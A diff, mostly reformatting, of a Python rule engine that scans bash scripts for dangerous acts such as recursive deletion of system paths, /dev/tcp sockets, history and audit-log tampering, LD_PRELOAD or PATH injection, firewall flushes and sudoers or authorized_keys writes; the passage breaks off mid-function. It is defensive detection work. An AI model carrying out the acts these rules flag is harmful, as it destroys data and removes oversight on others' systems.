+    "/root/.ssh",
+    "/boot/grub",
+    "/boot/efi",
+    "/var/lib/postgresql",
+    "/var/lib/mysql",
+    "/var/lib/docker",
+    "/var/lib/etcd",
+    "/var/lib/kubelet",
+    "/var/lib/containerd",
+    "/var/lib/dpkg",
+    "/var/lib/rpm",
+    "/var/lib/apt",
+    "/var/lib/redis",
+    "/var/lib/mongodb",
+    "/var/lib/elasticsearch",
+    "/var/lib/rabbitmq",
+    "/var/log/audit",
+    "/var/log/journal",
+    "/lib/modules",
+    "/usr/lib/modules",
+    "/lib/systemd",
 }
-DATA_DIR_PREFIXES = ("/var/lib/postgresql", "/var/lib/mysql", "/var/lib/pgsql", "/var/lib/mongodb", "/var/lib/etcd",
-                     "/var/lib/redis", "/var/lib/elasticsearch", "/var/lib/rabbitmq", "/var/lib/docker/volumes",
-                     "/srv/data", "/data")
+DATA_DIR_PREFIXES = (
+    "/var/lib/postgresql",
+    "/var/lib/mysql",
+    "/var/lib/pgsql",
+    "/var/lib/mongodb",
+    "/var/lib/etcd",
+    "/var/lib/redis",
+    "/var/lib/elasticsearch",
+    "/var/lib/rabbitmq",
+    "/var/lib/docker/volumes",
+    "/srv/data",
+    "/data",
+)
 BLOCK_DEVICE = re.compile(
     r"^/dev/(sd[a-z]+\d*|hd[a-z]+\d*|vd[a-z]+\d*|xvd[a-z]+\d*|nvme\d+n\d+(p\d+)?|mmcblk\d+(p\d+)?|dm-\d+|md\d+|"
     r"mapper/.+|disk/.+|loop\d+|sr\d+|root|rootfs|mem|kmem|port)$"
 )
-HISTORY_FILES = ("~/.bash_history", "*/.bash_history", "~/.zsh_history", "*/.zsh_history", "/var/log/wtmp",
-                 "/var/log/btmp", "/var/log/lastlog", "/var/run/utmp", "/run/utmp", "/var/log/auth.log",
-                 "/var/log/secure", "/var/log/audit/audit.log", "/var/log/audit/*", "/var/log/messages",
-                 "/var/log/syslog", "*/.python_history", "*/.mysql_history", "*/.psql_history", "/var/log/faillog")
-STARTUP_FILES = ("~/.bashrc", "*/.bashrc", "~/.bash_profile", "*/.bash_profile", "~/.profile", "*/.profile",
-                 "~/.zshrc", "*/.zshrc", "/etc/profile", "/etc/profile.d/*", "/etc/bash.bashrc", "/etc/bashrc",
-                 "/etc/environment", "~/.bash_logout", "*/.bash_logout", "/etc/zsh/*", "~/.ssh/rc", "/etc/rc.local")
-CRON_PATHS = ("/etc/cron.d/*", "/etc/crontab", "/var/spool/cron/*", "/var/spool/cron/crontabs/*", "/etc/cron.daily/*",
-              "/etc/cron.hourly/*", "/etc/cron.weekly/*", "/etc/cron.monthly/*", "/etc/anacrontab")
-PERSISTENCE_UNITS = ("/etc/systemd/system/*", "/lib/systemd/system/*", "/usr/lib/systemd/system/*",
-                     "~/.config/systemd/user/*", "/etc/init.d/*", "/etc/rc.local", "/etc/update-motd.d/*")
-ESSENTIAL_PACKAGES = {"openssh-server", "openssh", "sudo", "systemd", "libc6", "glibc", "coreutils", "bash",
-                      "util-linux", "login", "passwd", "dpkg", "rpm", "apt", "yum", "dnf", "python3", "kernel",
-                      "linux-image-generic", "grub", "grub2", "grub-pc", "init", "systemd-sysv", "libpam-modules",
-                      "pam", "openssl", "ca-certificates", "e2fsprogs", "procps", "iproute2", "network-manager"}
+HISTORY_FILES = (
+    "~/.bash_history",
+    "*/.bash_history",
+    "~/.zsh_history",
+    "*/.zsh_history",
+    "/var/log/wtmp",
+    "/var/log/btmp",
+    "/var/log/lastlog",
+    "/var/run/utmp",
+    "/run/utmp",
+    "/var/log/auth.log",
+    "/var/log/secure",
+    "/var/log/audit/audit.log",
+    "/var/log/audit/*",
+    "/var/log/messages",
+    "/var/log/syslog",
+    "*/.python_history",
+    "*/.mysql_history",
+    "*/.psql_history",
+    "/var/log/faillog",
+)
+STARTUP_FILES = (
+    "~/.bashrc",
+    "*/.bashrc",
+    "~/.bash_profile",
+    "*/.bash_profile",
+    "~/.profile",
+    "*/.profile",
+    "~/.zshrc",
+    "*/.zshrc",
+    "/etc/profile",
+    "/etc/profile.d/*",
+    "/etc/bash.bashrc",
+    "/etc/bashrc",
+    "/etc/environment",
+    "~/.bash_logout",
+    "*/.bash_logout",
+    "/etc/zsh/*",
+    "~/.ssh/rc",
+    "/etc/rc.local",
+)
+CRON_PATHS = (
+    "/etc/cron.d/*",
+    "/etc/crontab",
+    "/var/spool/cron/*",
+    "/var/spool/cron/crontabs/*",
+    "/etc/cron.daily/*",
+    "/etc/cron.hourly/*",
+    "/etc/cron.weekly/*",
+    "/etc/cron.monthly/*",
+    "/etc/anacrontab",
+)
+PERSISTENCE_UNITS = (
+    "/etc/systemd/system/*",
+    "/lib/systemd/system/*",
+    "/usr/lib/systemd/system/*",
+    "~/.config/systemd/user/*",
+    "/etc/init.d/*",
+    "/etc/rc.local",
+    "/etc/update-motd.d/*",
+)
+ESSENTIAL_PACKAGES = {
+    "openssh-server",
+    "openssh",
+    "sudo",
+    "systemd",
+    "libc6",
+    "glibc",
+    "coreutils",
+    "bash",
+    "util-linux",
+    "login",
+    "passwd",
+    "dpkg",
+    "rpm",
+    "apt",
+    "yum",
+    "dnf",
+    "python3",
+    "kernel",
+    "linux-image-generic",
+    "grub",
+    "grub2",
+    "grub-pc",
+    "init",
+    "systemd-sysv",
+    "libpam-modules",
+    "pam",
+    "openssl",
+    "ca-certificates",
+    "e2fsprogs",
+    "procps",
+    "iproute2",
+    "network-manager",
+}
 SSH_UNITS = {"ssh", "sshd", "ssh.service", "sshd.service", "ssh.socket"}
-AUDIT_UNITS = {"auditd", "rsyslog", "syslog", "syslog-ng", "systemd-journald", "journald", "auditd.service",
-               "rsyslog.service", "systemd-journald.service", "osqueryd", "falco", "wazuh-agent", "ossec"}
+AUDIT_UNITS = {
+    "auditd",
+    "rsyslog",
+    "syslog",
+    "syslog-ng",
+    "systemd-journald",
+    "journald",
+    "auditd.service",
+    "rsyslog.service",
+    "systemd-journald.service",
+    "osqueryd",
+    "falco",
+    "wazuh-agent",
+    "ossec",
+}
 FIREWALL_UNITS = {"firewalld", "ufw", "nftables", "iptables", "ip6tables", "netfilter-persistent", "firewalld.service"}
 MAC_UNITS = {"apparmor", "apparmor.service", "selinux"}
 EPHEMERAL_NAMESPACE = re.compile(r"^(preview|pr|review|ephemeral|tmp|test|ci|sandbox|feature)-[a-z0-9-]+$")
@@ -527,17 +973,26 @@ def destructive_scope(text: str) -> tuple[Severity, str] | None:
         return C, f"{path} (matches top-level directories)"
     if len(parts) == 1:
         if first in TOP_LEVEL or first in ("swapfile",):
-            return (C, f"the system directory {path}") if first not in ("tmp", "mnt", "media", "srv", "opt") else (
-                H, f"the shared directory {path}")
+            return (
+                (C, f"the system directory {path}")
+                if first not in ("tmp", "mnt", "media", "srv", "opt")
+                else (H, f"the shared directory {path}")
+            )
         return H, f"the top-level path {path}"
     if path in PROTECTED_DIRS or path in CRITICAL_FILES:
         return H, f"the system path {path}"
-    if len(parts) == 2 and any(ch in parts[1] for ch in "*?[") and "/" + first in {"/etc", "/usr", "/var", "/boot", "/lib", "/bin", "/sbin"}:
+    if (
+        len(parts) == 2
+        and any(ch in parts[1] for ch in "*?[")
+        and "/" + first in {"/etc", "/usr", "/var", "/boot", "/lib", "/bin", "/sbin"}
+    ):
         return H, f"{path} (matches system directories)"
-    if len(parts) >= 2 and parts[0] in ("boot", "bin", "sbin", "lib", "lib64") :
+    if len(parts) >= 2 and parts[0] in ("boot", "bin", "sbin", "lib", "lib64"):
         return H, f"the system path {path}"
-    if first == "usr" and (len(parts) == 2 or (len(parts) == 3 and parts[1] in (
-            "bin", "sbin", "lib", "lib64", "lib32", "libexec", "include", "share"))):
+    if first == "usr" and (
+        len(parts) == 2
+        or (len(parts) == 3 and parts[1] in ("bin", "sbin", "lib", "lib64", "lib32", "libexec", "include", "share"))
+    ):
         return H, f"the system path {path}"
     for prefix in DATA_DIR_PREFIXES:
         if path == prefix or (path.startswith(prefix + "/") and path.count("/") <= prefix.count("/") + 2):
@@ -567,8 +1022,10 @@ def is_block_device(text: str) -> bool:
     path = normalise_path(text)
     if BLOCK_DEVICE.match(path):
         return True
-    return path.startswith("/dev/") and any(ch in path for ch in "*?[") and any(
-        fnmatch.fnmatchcase(dev, path) for dev in ("/dev/sda", "/dev/nvme0n1", "/dev/vda", "/dev/xvda")
+    return (
+        path.startswith("/dev/")
+        and any(ch in path for ch in "*?[")
+        and any(fnmatch.fnmatchcase(dev, path) for dev in ("/dev/sda", "/dev/nvme0n1", "/dev/vda", "/dev/xvda"))
     )
 
 
@@ -577,7 +1034,9 @@ def is_dev_tcp(text: str) -> bool:
     if re.match(r"^/dev/(tcp|udp)/", path):
         return True
     head = "/".join(path.split("/")[:3])
-    return any(ch in head for ch in "*?[") and (fnmatch.fnmatchcase("/dev/tcp", head) or fnmatch.fnmatchcase("/dev/udp", head))
+    return any(ch in head for ch in "*?[") and (
+        fnmatch.fnmatchcase("/dev/tcp", head) or fnmatch.fnmatchcase("/dev/udp", head)
+    )
 
 
 def _stage_names(cmds: list[Command]) -> set[str]:
@@ -633,7 +1092,9 @@ class CommandRules:
     def check(self, cmd: Command) -> None:
         self._name(cmd)
         if any(a.brace_overflow for a in cmd.args):
-            self.emit("bash.brace_explosion", cmd.line, f"brace expansion in '{cmd.name}' arguments yields too many words")
+            self.emit(
+                "bash.brace_explosion", cmd.line, f"brace expansion in '{cmd.name}' arguments yields too many words"
+            )
         for redirect in cmd.redirects:
             self._redirect(cmd, redirect)
         if cmd.name == ":" and not cmd.args and not cmd.wrappers:
@@ -662,8 +1123,20 @@ class CommandRules:
             self.emit("bash.history_tamper", line, "HISTCONTROL hides commands from history", L)
         if value is None or text == "" or (value.raw == "unset"):
             return
-        if name in ("LD_PRELOAD", "LD_AUDIT", "BASH_ENV", "ENV", "PROMPT_COMMAND", "PS4", "GIT_SSH_COMMAND",
-                    "LD_LIBRARY_PATH", "PERL5OPT", "PYTHONSTARTUP", "NODE_OPTIONS", "GCONV_PATH"):
+        if name in (
+            "LD_PRELOAD",
+            "LD_AUDIT",
+            "BASH_ENV",
+            "ENV",
+            "PROMPT_COMMAND",
+            "PS4",
+            "GIT_SSH_COMMAND",
+            "LD_LIBRARY_PATH",
+            "PERL5OPT",
+            "PYTHONSTARTUP",
+            "NODE_OPTIONS",
+            "GCONV_PATH",
+        ):
             if name == "LD_LIBRARY_PATH" and not re.search(r"(^|:)(/tmp|/dev/shm|/var/tmp|\.)", text):
                 return
             if name == "PS4" and "$(" not in (value.raw or ""):
@@ -672,8 +1145,11 @@ class CommandRules:
         if name == "PATH":
             first = text.split(":")[0]
             if first in ("", ".") or first.startswith(("/tmp", "/dev/shm", "/var/tmp", UNKNOWN)) or "/home/" in first:
-                self.emit("bash.env_injection", line, f"PATH puts {first or 'the current directory'} first: "
-                          "commands can resolve to planted binaries")
+                self.emit(
+                    "bash.env_injection",
+                    line,
+                    f"PATH puts {first or 'the current directory'} first: commands can resolve to planted binaries",
+                )
 
     def check_function(self, name: str, body_commands: list[str], pipes_to_self: bool, background: bool) -> None:
         """Called by the analysis for each function definition."""
@@ -684,19 +1160,26 @@ class CommandRules:
         raw_name = word.text
         if word.dynamic or UNKNOWN in raw_name:
             severity = C if set(word.subst_commands) & (DOWNLOADERS | DECODERS) else H
-            self.emit("bash.dynamic_command", cmd.line,
-                      f"command name '{word.raw[:60]}' is only known at run time", severity)
+            self.emit(
+                "bash.dynamic_command", cmd.line, f"command name '{word.raw[:60]}' is only known at run time", severity
+            )
             return
         if word.glob and any(ch in raw_name for ch in "*?["):
             self.emit("bash.dynamic_command", cmd.line, f"command name '{word.raw[:60]}' is a glob pattern")
             return
         if any(ord(ch) > 127 for ch in raw_name):
-            self.emit("bash.non_ascii_command", cmd.line,
-                      f"command name {raw_name.encode('unicode_escape').decode()[:60]} contains non-ASCII characters")
+            self.emit(
+                "bash.non_ascii_command",
+                cmd.line,
+                f"command name {raw_name.encode('unicode_escape').decode()[:60]} contains non-ASCII characters",
+            )
         if word.obfuscated and raw_name:
-            self.emit("bash.obfuscated_command", cmd.line,
-                      f"command '{word.raw[:60]}' resolves to '{cmd.name}' after quote/escape/decoding tricks",
-                      H if cmd.name in _DANGEROUS_NAMES else None)
+            self.emit(
+                "bash.obfuscated_command",
+                cmd.line,
+                f"command '{word.raw[:60]}' resolves to '{cmd.name}' after quote/escape/decoding tricks",
+                H if cmd.name in _DANGEROUS_NAMES else None,
+            )
         path = normalise_path(raw_name)
         if "/" in path:
             if path in self.sink.downloads:
@@ -727,20 +1210,29 @@ class CommandRules:
             self.emit("bash.overwrite_critical_file", redirect.line, f"redirect overwrites {text}")
         elif text == "/proc/sysrq-trigger":
             self.emit("bash.power_state", redirect.line, "writes /proc/sysrq-trigger (immediate reboot/crash)")
-        elif text.startswith("/proc/sys/kernel/") and any(k in text for k in ("randomize_va_space", "modules_disabled",
-                                                                           "kptr_restrict", "yama")):
+        elif text.startswith("/proc/sys/kernel/") and any(
+            k in text for k in ("randomize_va_space", "modules_disabled", "kptr_restrict", "yama")
+        ):
             self.emit("bash.kernel_security", redirect.line, f"writes {text}")
-        self._sensitive_write(text, redirect.line, "redirect", append=redirect.op in (">>", "&>>"),
-                              truncate_only=cmd.name == ":" and not cmd.args or (cmd.name in ("echo", "true", ":", "printf") and not [a for a in cmd.args if a.text.strip()]))
+        self._sensitive_write(
+            text,
+            redirect.line,
+            "redirect",
+            append=redirect.op in (">>", "&>>"),
+            truncate_only=(cmd.name == ":" and not cmd.args)
+            or (cmd.name in ("echo", "true", ":", "printf") and not [a for a in cmd.args if a.text.strip()]),
+        )
         if cmd.name == "cat" and not cmd.args and cmd.stdin_text is not None and text.endswith(".sh"):
             self.sink.written_scripts[text] = cmd.stdin_text
-        if cmd.name in ("cat", "head") and any(a.text in ("/dev/urandom", "/dev/zero", "/dev/random") for a in cmd.args):
-            if not cmd.has_flag("-c", "-n"):
-                self.emit("bash.fork_bomb", redirect.line, f"copies an endless device into {text} until the disk fills")
+        endless = any(a.text in ("/dev/urandom", "/dev/zero", "/dev/random") for a in cmd.args)
+        if cmd.name in ("cat", "head") and endless and not cmd.has_flag("-c", "-n"):
+            self.emit("bash.fork_bomb", redirect.line, f"copies an endless device into {text} until the disk fills")
         if cmd.name == "yes" and text == "/dev/null":
             self.emit("bash.fork_bomb", redirect.line, "yes > /dev/null burns a CPU forever", H)
 
-    def _sensitive_write(self, path: str, line: int, how: str, *, append: bool = False, truncate_only: bool = False) -> None:
+    def _sensitive_write(
+        self, path: str, line: int, how: str, *, append: bool = False, truncate_only: bool = False
+    ) -> None:
         if path == "/etc/sudoers" or path.startswith("/etc/sudoers.d/") or path == "/etc/sudoers.d":
             self.emit("bash.sudoers", line, f"{how} writes {path}")
         elif fnmatch.fnmatchcase(path, "*/.ssh/authorized_keys*") or path.startswith("~/.ssh/authorized_keys"):
@@ -793,37 +1285,56 @@ class CommandRules:
                 self.emit("bash.history_tamper", cmd.line, f"rm deletes {normalise_path(text)}")
             if target.maybe_empty_prefix and text.lstrip(UNKNOWN).startswith("/"):
                 var = target.names[0] if target.names else "?"
-                self.emit("bash.rm_unguarded_var", cmd.line,
-                          f"rm {'-r ' if recursive else ''}'{target.raw[:60]}': if ${var} is empty this deletes "
-                          f"{normalise_path(text.replace(UNKNOWN, '')) or '/'}",
-                          C if recursive and destructive_scope(text.replace(UNKNOWN, "")) else H)
+                self.emit(
+                    "bash.rm_unguarded_var",
+                    cmd.line,
+                    f"rm {'-r ' if recursive else ''}'{target.raw[:60]}': if ${var} is empty this deletes "
+                    f"{normalise_path(text.replace(UNKNOWN, '')) or '/'}",
+                    C if recursive and destructive_scope(text.replace(UNKNOWN, "")) else H,
+                )
                 continue
             scope = destructive_scope(text)
             if recursive and scope is not None:
                 severity, what = scope
-                self.emit("bash.rm_root" if severity is C else "bash.rm_system_path", cmd.line,
-                          f"rm -r deletes {what} ('{target.raw[:60]}')", severity)
+                self.emit(
+                    "bash.rm_root" if severity is C else "bash.rm_system_path",
+                    cmd.line,
+                    f"rm -r deletes {what} ('{target.raw[:60]}')",
+                    severity,
+                )
                 continue
             path = normalise_path(text)
-            if not recursive and (path in CRITICAL_FILES or path.startswith(("/boot/", "/bin/", "/sbin/", "/usr/bin/",
-                                                                             "/usr/sbin/", "/lib/", "/usr/lib/"))):
-                self.emit("bash.rm_system_path", cmd.line, f"rm deletes the system file {path}",
-                          C if path in CRITICAL_FILES else H)
+            if not recursive and (
+                path in CRITICAL_FILES
+                or path.startswith(("/boot/", "/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/lib/", "/usr/lib/"))
+            ):
+                self.emit(
+                    "bash.rm_system_path",
+                    cmd.line,
+                    f"rm deletes the system file {path}",
+                    C if path in CRITICAL_FILES else H,
+                )
                 continue
             if not recursive and scope is not None and scope[0] is C and target.glob:
                 self.emit("bash.rm_system_path", cmd.line, f"rm deletes files in {scope[1]}", H)
                 continue
-            if recursive and path in ("*", ".", "..", ".*", "./*", "../*", "./", "../") or (
+            if (recursive and path in ("*", ".", "..", ".*", "./*", "../*", "./", "../")) or (
                 recursive and path.startswith("..") and target.glob
             ):
-                self.emit("bash.rm_relative_glob", cmd.line,
-                          f"rm -r '{target.raw[:40]}' deletes whatever the current directory holds")
+                self.emit(
+                    "bash.rm_relative_glob",
+                    cmd.line,
+                    f"rm -r '{target.raw[:40]}' deletes whatever the current directory holds",
+                )
                 continue
             if recursive and target.dynamic and not target.guarded and text.strip(UNKNOWN + "/") == "":
                 external = [n for n in target.names if n and not n.isdigit() and n not in ("@", "*")]
                 if target.from_subst or target.maybe_empty_prefix or external:
-                    self.emit("bash.rm_unresolved_target", cmd.line,
-                              f"rm -r of '{target.raw[:60]}', a path the script does not set")
+                    self.emit(
+                        "bash.rm_unresolved_target",
+                        cmd.line,
+                        f"rm -r of '{target.raw[:60]}', a path the script does not set",
+                    )
 
     def _xargs_scope(self, cmd: Command) -> None:
         for up in cmd.upstream:
@@ -866,46 +1377,82 @@ class CommandRules:
             if not inner:
                 continue
             name = normalise_name(inner[0].text)
-            if name in ("rm", "shred", "unlink", "truncate") or (name == "mv" and "/dev/null" in [w.text for w in inner]):
+            if name in ("rm", "shred", "unlink", "truncate") or (
+                name == "mv" and "/dev/null" in [w.text for w in inner]
+            ):
                 deletes = True
-            self.check(Command(name=name, args=[w for w in inner[1:] if w.text != "{}"], line=cmd.line,
-                               name_word=inner[0], context="find -exec"))
+            self.check(
+                Command(
+                    name=name,
+                    args=[w for w in inner[1:] if w.text != "{}"],
+                    line=cmd.line,
+                    name_word=inner[0],
+                    context="find -exec",
+                )
+            )
         if not deletes:
             return
         root_texts = [r.text for r in roots] or ["."]
-        predicates = {"-name", "-iname", "-mtime", "-mmin", "-newer", "-size", "-path", "-regex", "-user", "-empty",
-                      "-atime", "-ctime", "-type"}
+        predicates = {
+            "-name",
+            "-iname",
+            "-mtime",
+            "-mmin",
+            "-newer",
+            "-size",
+            "-path",
+            "-regex",
+            "-user",
+            "-empty",
+            "-atime",
+            "-ctime",
+            "-type",
+        }
         bounded = any(a in predicates and a != "-type" for a in argv)
         for text in root_texts:
             scope = destructive_scope(text)
             if scope is None:
-                if (UNKNOWN in text and not bounded):
+                if UNKNOWN in text and not bounded:
                     self.emit("bash.rm_unresolved_target", cmd.line, f"find {text} deletes under an unresolved path")
                 continue
             severity, what = scope
             if severity is H and bounded and normalise_path(text) not in ("/var/lib", "/usr", "/boot", "/etc"):
                 continue
-            self.emit("bash.find_delete_root", cmd.line, f"find deletes files under {what}",
-                      C if severity is C or not bounded else H)
+            self.emit(
+                "bash.find_delete_root",
+                cmd.line,
+                f"find deletes files under {what}",
+                C if severity is C or not bounded else H,
+            )
 
     def _chmod_like(self, cmd: Command, verb: str) -> None:
         recursive = cmd.has_flag("-R", "--recursive")
         ops = cmd.operands()
         mode = ops[0].text if ops else ""
         paths = ops[1:]
-        if verb == "chmod":
-            if re.fullmatch(r"[0-7]*[4-7][0-7]{3}", mode) and len(mode) == 4 and mode[0] in "4567" or re.search(r"[ugoa]*\+[rwxXt]*s", mode):
-                self.emit("bash.setuid", cmd.line, f"chmod {mode} sets setuid/setgid on {', '.join(p.text for p in paths)[:80]}")
-        world_writable = verb == "chmod" and (re.fullmatch(r"0?[0-7]?[0-7][0-7][2367]", mode) is not None or re.search(r"(o|a|^)\+[rx]*w", mode) is not None)
+        if verb == "chmod" and (re.fullmatch(r"0?[2-7][0-7]{3}", mode) or re.search(r"[ugoa]*\+[rwxXt]*s", mode)):
+            self.emit(
+                "bash.setuid",
+                cmd.line,
+                f"chmod {mode} sets setuid/setgid on {', '.join(p.text for p in paths)[:80]}",
+            )
+        world_writable = verb == "chmod" and (
+            re.fullmatch(r"0?[0-7]?[0-7][0-7][2367]", mode) is not None
+            or re.search(r"(o|a|^)\+[rx]*w", mode) is not None
+        )
         for p in paths:
             scope = destructive_scope(p.text)
             path = normalise_path(p.text)
             if recursive and scope is not None:
                 self.emit("bash.chmod_chown_root", cmd.line, f"{verb} -R on {scope[1]}", scope[0])
-            elif world_writable and (path in CRITICAL_FILES or scope is not None or path.startswith(("/etc/", "/usr/", "/bin/", "/boot/"))):
+            elif world_writable and (
+                path in CRITICAL_FILES or scope is not None or path.startswith(("/etc/", "/usr/", "/bin/", "/boot/"))
+            ):
                 self.emit("bash.chmod_chown_root", cmd.line, f"chmod {mode} makes {path} world-writable", H)
             elif p.maybe_empty_prefix and recursive:
-                self.emit("bash.rm_unguarded_var", cmd.line, f"{verb} -R '{p.raw}' can expand to / if the variable is empty")
+                self.emit(
+                    "bash.rm_unguarded_var", cmd.line, f"{verb} -R '{p.raw}' can expand to / if the variable is empty"
+                )
 
     def _cmd_chmod(self, cmd: Command) -> None:
         self._chmod_like(cmd, "chmod")
@@ -918,7 +1465,10 @@ class CommandRules:
 
     def _cmd_setcap(self, cmd: Command) -> None:
         caps = " ".join(cmd.argv).lower()
-        if any(c in caps for c in ("cap_setuid", "cap_setgid", "cap_sys_admin", "cap_dac_override", "cap_sys_ptrace", "=ep")):
+        if any(
+            c in caps
+            for c in ("cap_setuid", "cap_setgid", "cap_sys_admin", "cap_dac_override", "cap_sys_ptrace", "=ep")
+        ):
             self.emit("bash.setuid", cmd.line, f"setcap {caps[:60]} grants root-equivalent capabilities")
 
     def _cmd_dd(self, cmd: Command) -> None:
@@ -938,8 +1488,11 @@ class CommandRules:
             return
         devices = [a.text for a in cmd.args if a.text.startswith("/dev/") or a.dynamic]
         if devices or not cmd.args:
-            self.emit("bash.block_device_write", cmd.line, f"{cmd.name} rewrites the partition table or data of "
-                      f"{devices[0] if devices else 'a disk'}")
+            self.emit(
+                "bash.block_device_write",
+                cmd.line,
+                f"{cmd.name} rewrites the partition table or data of {devices[0] if devices else 'a disk'}",
+            )
 
     def _cmd_wipefs(self, cmd: Command) -> None:
         if not cmd.has_flag("-n", "--no-act") and (cmd.has_flag("-a", "--all", "-o", "--offset")):
@@ -1040,7 +1593,9 @@ class CommandRules:
 
     def _cmd_sed(self, cmd: Command) -> None:
         script = " ".join(a.text for a in cmd.args)
-        if re.search(r"(^|[;{\s'])\d*e\s|[/|]e(\s|$|;|')|\d+e\s", script) and not cmd.has_flag("-i") or re.search(r"(^|\s)\d*e (sh|bash|rm|curl|wget|nc)\b", script):
+        if (re.search(r"(^|[;{\s'])\d*e\s|[/|]e(\s|$|;|')|\d+e\s", script) and not cmd.has_flag("-i")) or re.search(
+            r"(^|\s)\d*e (sh|bash|rm|curl|wget|nc)\b", script
+        ):
             self.emit("bash.interpreter_exec", cmd.line, "sed's e command runs shell commands")
         if cmd.has_flag("-i", "--in-place"):
             if "SELINUX=" in script and ("disabled" in script or "permissive" in script):
@@ -1063,8 +1618,11 @@ class CommandRules:
         if any(a.startswith("-") and "i" in a for a in cmd.argv):
             for target in cmd.operands():
                 if "authorized_keys" in target.text or target.text.startswith(("/etc/", "/bin", "/usr")):
-                    self.emit("bash.ssh_keys" if "authorized_keys" in target.text else "bash.data_destruction",
-                              cmd.line, f"chattr removes immutability from {target.text}")
+                    self.emit(
+                        "bash.ssh_keys" if "authorized_keys" in target.text else "bash.data_destruction",
+                        cmd.line,
+                        f"chattr removes immutability from {target.text}",
+                    )
 
     def _cmd_history(self, cmd: Command) -> None:
         if cmd.has_flag("-c", "-d") or (cmd.has_flag("-w") and "/dev/null" in cmd.argv):
@@ -1073,8 +1631,6 @@ class CommandRules:
     def _cmd_set(self, cmd: Command) -> None:
         if cmd.argv[:2] == ["+o", "history"]:
             self.emit("bash.history_tamper", cmd.line, "set +o history stops recording commands")
-        if not cmd.args and cmd.upstream == [] and False:
-            return
 
     def _cmd_auditctl(self, cmd: Command) -> None:
         if cmd.has_flag("-D") or (cmd.argv[:2] == ["-e", "0"]):
@@ -1085,9 +1641,21 @@ class CommandRules:
         if not ops:
             return
         verb, units = ops[0], [u.removesuffix(".service") for u in ops[1:]]
-        if verb in ("poweroff", "reboot", "halt", "kexec", "emergency", "rescue", "suspend", "hibernate", "soft-reboot"):
+        if verb in (
+            "poweroff",
+            "reboot",
+            "halt",
+            "kexec",
+            "emergency",
+            "rescue",
+            "suspend",
+            "hibernate",
+            "soft-reboot",
+        ):
             self.emit("bash.power_state", cmd.line, f"systemctl {verb} takes the host down")
-        if verb == "isolate" and any(u.startswith(("rescue", "emergency", "poweroff", "reboot", "halt", "multi-user")) for u in units):
+        if verb == "isolate" and any(
+            u.startswith(("rescue", "emergency", "poweroff", "reboot", "halt", "multi-user")) for u in units
+        ):
             self.emit("bash.power_state", cmd.line, f"systemctl isolate {' '.join(units)}")
         if verb in ("stop", "disable", "mask", "kill") or (verb == "disable" and "--now" in cmd.argv):
             self._service_stop(cmd, verb, units)
@@ -1108,8 +1676,9 @@ class CommandRules:
             elif base in MAC_UNITS:
                 self.emit("bash.mac_disable", cmd.line, f"{verb} {unit}: mandatory access control is off")
             else:
-                self.emit("bash.critical_service_stop", cmd.line, f"{verb} {unit}",
-                          M if verb in ("stop", "kill") else M)
+                self.emit(
+                    "bash.critical_service_stop", cmd.line, f"{verb} {unit}: the service stays down until started"
+                )
 
     def _cmd_service(self, cmd: Command) -> None:
         ops = [a.text for a in cmd.operands()]
@@ -1128,18 +1697,28 @@ class CommandRules:
 
     def _cmd_iptables(self, cmd: Command) -> None:
         argv = cmd.argv
-        if cmd.has_flag("-F", "--flush", "-X", "--delete-chain") and not cmd.has_flag("-t") or "--flush" in argv or "-F" in argv:
+        if (
+            (cmd.has_flag("-F", "--flush", "-X", "--delete-chain") and not cmd.has_flag("-t"))
+            or "--flush" in argv
+            or "-F" in argv
+        ):
             self.emit("bash.firewall_disable", cmd.line, f"{cmd.name} {' '.join(argv)[:60]} flushes firewall rules")
         for i, arg in enumerate(argv):
             if arg in ("-P", "--policy") and i + 2 < len(argv):
-                self.emit("bash.firewall_disable", cmd.line, f"{cmd.name} -P {argv[i+1]} {argv[i+2]} changes the default policy")
+                self.emit(
+                    "bash.firewall_disable",
+                    cmd.line,
+                    f"{cmd.name} -P {argv[i + 1]} {argv[i + 2]} changes the default policy",
+                )
 
     _cmd_ip6tables = _cmd_iptables
     _cmd_iptables_legacy = _cmd_iptables
     _cmd_iptables_nft = _cmd_iptables
 
     def _cmd_iptables_restore(self, cmd: Command) -> None:
-        if cmd.stdin_text is not None and ("-F" in cmd.stdin_text or "ACCEPT [" in cmd.stdin_text and ":INPUT ACCEPT" in cmd.stdin_text):
+        if cmd.stdin_text is not None and (
+            "-F" in cmd.stdin_text or ("ACCEPT [" in cmd.stdin_text and ":INPUT ACCEPT" in cmd.stdin_text)
+        ):
             self.emit("bash.firewall_disable", cmd.line, "iptables-restore loads an open rule set")
 
     def _cmd_nft(self, cmd: Command) -> None:
@@ -1153,7 +1732,9 @@ class CommandRules:
             self.emit("bash.firewall_disable", cmd.line, f"ufw {' '.join(ops)} opens the firewall")
 
     def _cmd_firewall_cmd(self, cmd: Command) -> None:
-        if any(a.startswith("--set-default-zone=trusted") or a == "--panic-off" for a in cmd.argv) or "--set-default-zone" in cmd.argv and "trusted" in cmd.argv:
+        if any(a.startswith("--set-default-zone=trusted") or a == "--panic-off" for a in cmd.argv) or (
+            "--set-default-zone" in cmd.argv and "trusted" in cmd.argv
+        ):
             self.emit("bash.firewall_disable", cmd.line, "firewall-cmd trusts all traffic")
 
     def _cmd_setenforce(self, cmd: Command) -> None:
@@ -1216,19 +1797,30 @@ class CommandRules:
 
     def _cmd_pkill(self, cmd: Command) -> None:
         argv = cmd.argv
-        if cmd.has_flag("-u", "-U", "--euid", "--uid") and not any(not a.startswith("-") and a not in ("root",) and
-                                                                    argv[max(0, i - 1)] not in ("-u", "-U") for i, a in enumerate(argv)):
+        if cmd.has_flag("-u", "-U", "--euid", "--uid") and not any(
+            not a.startswith("-") and a not in ("root",) and argv[max(0, i - 1)] not in ("-u", "-U")
+            for i, a in enumerate(argv)
+        ):
             self.emit("bash.kill_all", cmd.line, f"pkill {' '.join(argv)} kills every process of a user", H)
             return
-        ops = [a for i, a in enumerate(argv) if not a.startswith("-") and argv[max(0, i - 1)] not in ("-u", "-U", "-s", "-g", "-P", "-t")]
+        ops = [
+            a
+            for i, a in enumerate(argv)
+            if not a.startswith("-") and argv[max(0, i - 1)] not in ("-u", "-U", "-s", "-g", "-P", "-t")
+        ]
         if any(o in ("", ".", ".*", "sshd", "systemd", "init", "bash", "sh") for o in ops) or not ops:
             self.emit("bash.kill_all", cmd.line, f"pkill {' '.join(argv)} matches critical or all processes", H)
 
     def _cmd_ip(self, cmd: Command) -> None:
         argv = cmd.argv
-        if ("link" in argv and "down" in argv) or (argv[:2] in (["route", "del"], ["route", "flush"], ["r", "del"]) and
